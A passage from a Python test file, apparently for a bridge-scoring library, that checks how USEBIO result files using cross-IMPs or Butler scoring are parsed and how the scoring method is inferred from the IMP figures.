    ("method", "pairwise", "in_matchpoints", "scoring"),
    [
        ("CROSS_IMPS", "", False, Scoring.CROSS_IMPS),
        ("IMPS", "CROSS_IMPS", True, Scoring.CROSS_IMPS),  # as BBO writes cross-IMPs
        ("BUTLER_IMPS", "", False, Scoring.BUTLER),
        ("BUTLER", "", True, Scoring.BUTLER),
    ],
)
def test_imps_are_read_as_a_file_says_them(
    method: str, pairwise: str, in_matchpoints: bool, scoring: Scoring
) -> None:
    won = 6 if scoring is Scoring.BUTLER else 10
    data = imp_file(method, pairwise=pairwise, in_matchpoints=in_matchpoints, won=won)
    usebio = read_usebio(data)
    assert usebio.session.scoring is scoring
    assert [(f.imp_ns, f.imp_ew, f.mp_ns) for f in usebio.published.results] == [
        (Decimal(won), Decimal(-won), None),
        (Decimal(-won), Decimal(won), None),
    ]
    assert differences(usebio) == []


def test_imps_that_do_not_say_which_are_told_by_their_figures() -> None:
    # Two results: Butler's datum 190 gives ±6 IMPs, cross-IMPs ±10; the file's say which.
    assert read_usebio(imp_file("IMPS")).session.scoring is Scoring.CROSS_IMPS
    usebio = read_usebio(imp_file("IMPS", won=6))
    assert usebio.session.scoring is Scoring.BUTLER
    assert differences(usebio) == []
